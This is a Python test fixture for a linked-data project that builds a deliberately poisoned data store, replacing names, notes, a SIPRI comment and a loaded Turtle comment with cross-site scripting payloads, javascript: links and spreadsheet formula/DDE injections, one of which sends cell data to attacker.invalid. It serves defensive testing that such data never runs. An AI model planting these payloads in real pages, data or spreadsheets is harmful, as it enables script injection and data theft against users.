"""A store whose text is hostile: names, notes, a SIPRI comment and a loaded file that hold HTML, script and
spreadsheet formulas, for the tests that nothing the data says runs in a page or a spreadsheet.

Not facts. The store is the real build of a copy of the shipped curated files and of the small SIPRI cut
(``write_small_extract``), with some English names, notes and one SIPRI comment replaced by the payloads
below, then a Turtle file loaded with `dragonbear load`'s loader that gives the J-11 a comment, a
``javascript:`` link and a see-also ``javascript:`` IRI. Every id and IRI is the shipped one, so the pages'
paths stay the same.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

#: Every payload sets ``window.__pwned`` if it ever runs (each to its own number).
SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=2">'
SVG = '"><svg onload="window.__pwned=3">'
JS_URL = "javascript:window.__pwned=4"
IFRAME = '\'><iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>'
TITLE = "</title></textarea></script><script>window.__pwned=6</script>"
CDATA = "]]><script>window.__pwned=7</script><!--"
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"x")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"

SYSTEM_NAME = f"J-11 {IMG} {SVG}"
SYSTEM_NOTE = f"{SCRIPT} {JS_URL} {IFRAME}"
SERIES_NAME = f"Vostok {TITLE}"
EXERCISE_NAME = f"{FORMULA} {SCRIPT}"
EXERCISE_NOTE = f"{CDATA} {IMG}"
PLACE_NAME = f"{AT} {SVG}"
SIPRI_COMMENT = f"{DDE} {SCRIPT} {IMG}"
LOADED_COMMENT = f"{TITLE} {CDATA} {JS_URL}"
MARKER_NAME = f"Crimea {SCRIPT} {CDATA}"  # a mark of the TIV charts, drawn into their images
JS_IRI = "javascript:window.__pwned=8"

SYSTEM = "https://w3id.org/dragonbear/id/system/j-11"
EXERCISE = "https://w3id.org/dragonbear/id/exercise/vostok-2022"
PLACE = "https://w3id.org/dragonbear/id/place/sea-of-japan"

#: (file, id, field, new value) in the curated TOML files.
_CURATED = [
    ("systems.toml", "j-11", "names", SYSTEM_NAME),
    ("systems.toml", "j-11", "note", SYSTEM_NOTE),
    ("exercises.toml", "vostok", "names", SERIES_NAME),
    ("exercises.toml", "vostok-2022", "names", EXERCISE_NAME),
    ("exercises.toml", "vostok-2022", "note", EXERCISE_NOTE),
    ("places.toml", "sea-of-japan", "names", PLACE_NAME),
    ("events.toml", "crimea-annexation-2014", "names", MARKER_NAME),
]
_SIPRI_COMMENT_WAS = "For S-400 SAM systems"

LOADED = f"""@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
<{SYSTEM}> rdfs:comment {json.dumps(LOADED_COMMENT)}@en ;
    skos:closeMatch <{JS_IRI}> ;
    rdfs:seeAlso <{JS_IRI}> .
"""


def _set_field(text: str, ident: str, field: str, value: str) -> str:
    """``text`` (a curated TOML file) with ``field`` of the record ``id = "ident"`` set: the English name
    for ``names``, the whole value otherwise."""
    start = text.index(f'\nid = "{ident}"\n')
    end = text.find("\n[[", start)
    end = len(text) if end < 0 else end
    record = text[start:end]
    quoted = json.dumps(value, ensure_ascii=False)  # a TOML basic string
    if field == "names":
        changed = re.sub(r'en = "(?:[^"\\]|\\.)*"', lambda _m: f"en = {quoted}", record, count=1)
    else:
        changed = re.sub(rf'\n{field} = "(?:[^"\\]|\\.)*"', lambda _m: f"\n{field} = {quoted}", record, count=1)
    assert changed != record, (ident, field)
    return text[:start] + changed + text[end:]


def write_hostile_curated(source: Path, target: Path) -> Path:
    """A copy of the curated folder ``source`` in ``target`` with the payloads of :data:`_CURATED`."""
    shutil.copytree(source, target)
    for name, ident, field, value in _CURATED:
        path = target / name
        path.write_text(_set_field(path.read_text(encoding="utf-8"), ident, field, value), encoding="utf-8")
    return target


def write_hostile_extract(extract: Path, target: Path) -> Path:
    """A copy of the SIPRI cut ``extract`` whose deal commented "For S-400 SAM systems" says
    :data:`SIPRI_COMMENT` instead (the row rewritten by the csv module, quoted as it needs)."""
    lines = extract.read_text(encoding="utf-8").split("\n")
    for i, line in enumerate(lines):
        if _SIPRI_COMMENT_WAS in line:
            row = next(csv.reader([line]))
            row[row.index(_SIPRI_COMMENT_WAS)] = SIPRI_COMMENT
            out = io.StringIO()
            csv.writer(out, lineterminator="").writerow(row)
            lines[i] = out.getvalue()
            break
    else:
        raise AssertionError(f"no deal commented {_SIPRI_COMMENT_WAS!r} in {extract}")
    target.write_text("\n".join(lines), encoding="utf-8")
    return target


def build_hostile_store(root: Path, small_extract: Path) -> Path:
    """Build the hostile store under ``root`` (about as long as the session's small store) and return it."""
    from dragonbear import shipped_data
    from dragonbear.pipeline.build import build_store
    from dragonbear.pipeline.update import load_files

    curated = write_hostile_curated(shipped_data("curated"), root / "curated")
    extract = write_hostile_extract(small_extract, root / "extract.csv")
    build_store(root / "store", sipri_path=extract, curated_dir=curated, progress=lambda _m: None)
    loaded = root / "hostile.ttl"
    loaded.write_text(LOADED, encoding="utf-8")
    load_files(root / "store", [loaded])
    return root / "store"
